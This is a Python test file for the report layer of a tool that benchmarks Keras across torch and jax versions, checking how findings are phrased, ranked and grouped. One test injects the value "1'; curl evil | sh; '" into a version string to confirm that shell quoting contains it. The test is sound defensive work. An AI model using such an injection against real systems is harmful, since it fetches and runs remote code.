"""What a report says in sentences."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from runner.model import Better, Cell, Comparison, Evidence, Kind, Metric, Sample, Skip, Status, Verdict
from runner.report import Finding, Report, Severity, command
from runner.report.data import all_notes
from runner.report.findings import findings, none_found, not_measured
from runner.report.table import tables

OLD = Cell("torch", "2.2.2", "3.11.3", "3.11", "cpu")
NEW = Cell("torch", "2.15.0", "3.11.3", "3.11", "cpu")


def texts(report: Report) -> list[str]:
    return [f.sentence for f in findings(report)]


def two_cells(*comparisons: Comparison) -> Report:
    metrics = (
        Metric("free.step_s", 0.1, Kind.TIMING, Better.LOWER, "s"),
        Metric("free.images_per_s", 1280.0, Kind.TIMING, Better.HIGHER, "images/s"),
        Metric("free.test_accuracy", 0.98, Kind.SEEDED, Better.HIGHER),
        Metric("controlled.loss_per_step", [1.0], Kind.TRAJECTORY),
    )
    samples = tuple(Sample(c, c.id, "mnist", {}, 0, 0, "host", Status.OK, "", metrics) for c in (OLD, NEW))
    return Report(samples, comparisons)


def judged(metric: str, verdict: Verdict, effect: float | None = None, **more: Any) -> Comparison:
    evidence = Evidence(n=5, effect=effect, low=0.2 if effect else None, high=0.4 if effect else None)
    comparison = Comparison(OLD.id, NEW.id, "version", "mnist", metric, verdict, "the reason", evidence)
    return replace(comparison, **more)


def test_findings_come_worst_first(quick: Report) -> None:
    severities = [f.severity for f in findings(quick)]
    assert severities == sorted(severities)
    assert severities[0] is Severity.BROKEN
    assert {Severity.REGRESSED, Severity.UNDECIDED, Severity.EXPECTED, Severity.DIFFERENT} <= set(severities)


def test_an_import_that_fails_in_every_probe_is_one_finding(quick: Report) -> None:
    found = [f for f in findings(quick) if "does not import" in f.text]
    assert len(found) == 1
    assert found[0].severity is Severity.EXPECTED
    assert found[0].sentence == (
        "torch 2.2.2 with keras 3.15.1 does not import: TypeError: register_pytree_node() got an unexpected keyword "
        "argument 'flatten_with_keys_fn' (keras 3.11.3 does). "
        "Expected: https://github.com/keras-team/keras/issues/20713"
    )


def test_a_crash_names_the_probe_and_what_works(quick: Report) -> None:
    assert texts(quick)[0] == (
        "jax 0.10.2 with keras 3.8.0 crashes in mnist: exit code 139 (SIGSEGV) (keras 3.11.3 works)"
    )


def test_slower_steps_and_fewer_images_are_one_finding() -> None:
    report = two_cells(
        judged("free.images_per_s", Verdict.REGRESSED, -0.236),
        judged("free.step_s", Verdict.REGRESSED, 0.31, packages=("numpy 1.26.4 -> 2.4.6",)),
    )
    (text,) = texts(report)
    assert text == (
        "torch 2.15.0 with keras 3.11.3 is 1.31× slower per step than torch 2.2.2 (n=5, interval 1.20–1.40); "
        "with it images/s −24 %; also moved: numpy 1.26.4 -> 2.4.6"
    )


def test_an_improvement_turns_the_ratio_and_its_interval_round() -> None:
    faster = judged("free.step_s", Verdict.IMPROVED, -0.5)
    faster = replace(faster, evidence=replace(faster.evidence, low=-0.6, high=-0.375))
    assert texts(two_cells(faster)) == [
        "torch 2.15.0 with keras 3.11.3 is 2.00× faster per step than torch 2.2.2 (n=5, interval 1.60–2.50)"
    ]


def test_accuracy_is_told_in_two_figures_and_a_miracle_is_doubted() -> None:
    worse = judged("free.test_accuracy", Verdict.REGRESSED, -0.1, baseline_value=0.98, candidate_value=0.88)
    better = replace(worse, verdict=Verdict.IMPROVED, evidence=Evidence(n=5, effect=0.01), candidate_value=0.99)
    assert "has lower test accuracy than torch 2.2.2 (88.00 % against 98.00 %, n=5)" in texts(two_cells(worse))[0]
    assert texts(two_cells(better))[0].endswith("suspiciously good, see that it is real")


def test_an_exact_figure_is_told_by_the_judges_reason() -> None:
    comparison = judged("controlled.loss_per_step", Verdict.REGRESSED, reason="diverges at step 3")
    assert texts(two_cells(comparison)) == [
        "torch 2.15.0 with keras 3.11.3 differs from torch 2.2.2 in loss per step: diverges at step 3"
    ]


def test_an_error_without_a_baseline_is_reported_too() -> None:
    comparison = replace(judged("controlled.loss_per_step", Verdict.BROKEN), baseline="", axis="")
    assert findings(two_cells(comparison))[0].severity is Severity.BROKEN
    assert texts(two_cells(comparison)) == ["torch 2.15.0 with keras 3.11.3 is off in loss per step: the reason"]


def test_a_difference_that_gates_nothing_is_no_regression() -> None:
    found = findings(two_cells(judged("free.step_s", Verdict.REGRESSED, 0.31, gates=False)))
    assert [f.severity for f in found] == [Severity.DIFFERENT]
    assert "no regression" in found[0].text


def test_an_expected_failure_that_is_gone_asks_for_an_update() -> None:
    gone = judged("status", Verdict.FIXED, issue="https://example.org/1")
    found = findings(two_cells(gone))
    assert [f.severity for f in found] == [Severity.FIXED]
    assert found[0].sentence.endswith("update the expectations: https://example.org/1")


def test_undecided_comparisons_say_how_many_rounds_would_do() -> None:
    evidence = Evidence(n=5, rounds_needed=4)
    open_ = replace(judged("free.step_s", Verdict.INCONCLUSIVE, reason=""), evidence=evidence)
    report = two_cells(open_, judged("free.images_per_s", Verdict.SAME, 0.01))
    assert texts(report) == [
        "mnist: 1 of 2 comparisons is undecided (step time); about 9 rounds in all would decide (--max-rounds 9)"
    ]


def test_what_more_rounds_do_not_mend_says_why() -> None:
    report = two_cells(judged("free.step_s", Verdict.INCONCLUSIVE, reason="other work ran meanwhile"))
    assert texts(report) == [
        "mnist: 1 of 1 comparisons is undecided (step time); all of them: other work ran meanwhile"
    ]


def test_a_cell_that_disagrees_with_itself_is_not_blamed_on_a_version() -> None:
    evidence = Evidence(n=2, classification="nondeterministic")
    unsteady = replace(judged("free.step_s", Verdict.NOT_COMPARABLE), evidence=evidence)
    found = findings(two_cells(unsteady))
    assert [f.severity for f in found] == [Severity.INCOMPARABLE]
    assert "repeated runs disagree" in found[0].text


def test_figures_that_cannot_be_compared_share_a_line_per_reason() -> None:
    apart = [judged(m, Verdict.NOT_COMPARABLE, reason="host differs") for m in ("free.step_s", "free.images_per_s")]
    assert texts(two_cells(*apart)) == ["1 cell not comparable with the baseline in step time, images/s: host differs"]


def test_nothing_to_say_where_all_is_the_same() -> None:
    assert findings(two_cells(judged("free.step_s", Verdict.SAME, 0.01), judged("status", Verdict.SAME))) == ()


@pytest.mark.parametrize("status", [s for s in Status if s.about_cell and s not in (Status.OK, Status.UNSUPPORTED)])
def test_a_failure_is_told_even_without_a_baseline(status: Status) -> None:
    report = two_cells()
    failed = replace(report.samples[1], status=status, reason="why", metrics=())
    found = findings(replace(report, samples=(report.samples[0], failed)))
    assert [f.severity for f in found] == [Severity.FAILED]
    assert "why" in found[0].text


def test_a_hundred_cells_with_one_error_are_one_finding() -> None:
    cells = [replace(NEW, keras=f"3.{n}.0") for n in range(100)]
    samples = tuple(
        Sample(c, c.id, "mnist", {}, 0, 0, "host", Status.IMPORT_FAILED, "no module named jax") for c in cells
    )
    found = findings(Report(samples, ()))
    assert len(found) == 1
    assert len(found[0].cells) == 100
    assert "96 more cells do not import" in found[0].text


def test_what_could_not_be_measured_is_grouped_by_reason(quick: Report) -> None:
    gpu = [Skip(replace(NEW, device="cuda", keras=f"3.{n}.0"), Status.UNAVAILABLE, "no GPU") for n in range(6)]
    lines = not_measured(replace(quick, skips=tuple(gpu)))
    assert len(lines) == 2
    assert lines[0].endswith("and 2 more cells: unavailable: no GPU")
    assert "unsupported: mnist: fit is not implemented" in lines[1]


def test_findings_from_elsewhere_take_their_place(quick: Report) -> None:
    extra = Finding(Severity.BROKEN, "a defect of a sweep", ("x",), weight=1e9)
    assert findings(replace(quick, extra=(extra,)))[0] is extra


def test_the_report_states_the_error_rate_and_over_how_much_it_is_kept() -> None:
    step = judged("free.step_s", Verdict.SAME, 0.01)
    step = replace(step, evidence=replace(step.evidence, p_adjusted=0.2))
    seeded = replace(step, metric="free.test_accuracy")
    noted = all_notes(replace(two_cells(step, seeded), alpha=0.05))
    assert noted == ["Timing comparisons corrected together (Holm): 1; a false alarm among them in at most 5 % of runs"]
    assert all_notes(two_cells(step)) == []


def test_the_command_runs_one_cell_again(quick: Report) -> None:
    assert command(NEW, quick, "mnist") == (
        "python -m runner matrix --only 'torch-2.15.0_keras-3.11.3_py3.11_cpu' --probe mnist --fresh --rounds 12"
    )
    assert "--probe mnist --probe conv2d" in command(NEW, quick)


def test_a_hostile_cell_id_cannot_leave_its_quotes(quick: Report) -> None:
    hostile = replace(NEW, version="1'; curl evil | sh; '")
    assert "--only 'torch-1'\"'\"'; curl evil | sh; '\"'\"'_keras" in command(hostile, quick)


def test_processes_that_this_machine_lost_are_told_beside_those_that_ran() -> None:
    (ran, *_) = two_cells().samples
    lost = replace(ran, round=1, status=Status.UNAVAILABLE, reason="the Docker engine stopped answering", metrics=())
    assert not_measured(Report((ran, lost), ())) == (
        "torch 2.2.2 with keras 3.11.3: unavailable: mnist: 1 of 2 processes: the Docker engine stopped answering",
    )


def test_cells_that_an_outage_stopped_are_one_entry_and_their_rows_have_no_reason() -> None:
    (ran, *_) = two_cells().samples
    lost = [
        replace(ran, cell=cell, probe=probe, status=Status.UNAVAILABLE, reason="it is out: mend it", metrics=())
        for cell in (OLD, NEW)
        for probe in ("mnist", "conv2d")
    ]
    report = Report(tuple(lost), ())
    assert not_measured(report) == (
        (
            "torch 2.2.2 with keras 3.11.3 and torch 2.15.0 with keras 3.11.3: unavailable: mnist and conv2d: "
            "it is out: mend it"
        ),
    )
    assert [(row.status, row.reason) for table in tables(report) for row in table.rows] == [("unavailable", "")] * 4


def test_where_nothing_was_compared_no_difference_is_claimed() -> None:
    assert "no difference" in none_found(two_cells(judged("free.step_s", Verdict.SAME)))
    for alone in (two_cells(), two_cells(judged("free.step_s", Verdict.NOT_COMPARABLE))):
        assert none_found(alone) == "None: nothing could be compared."
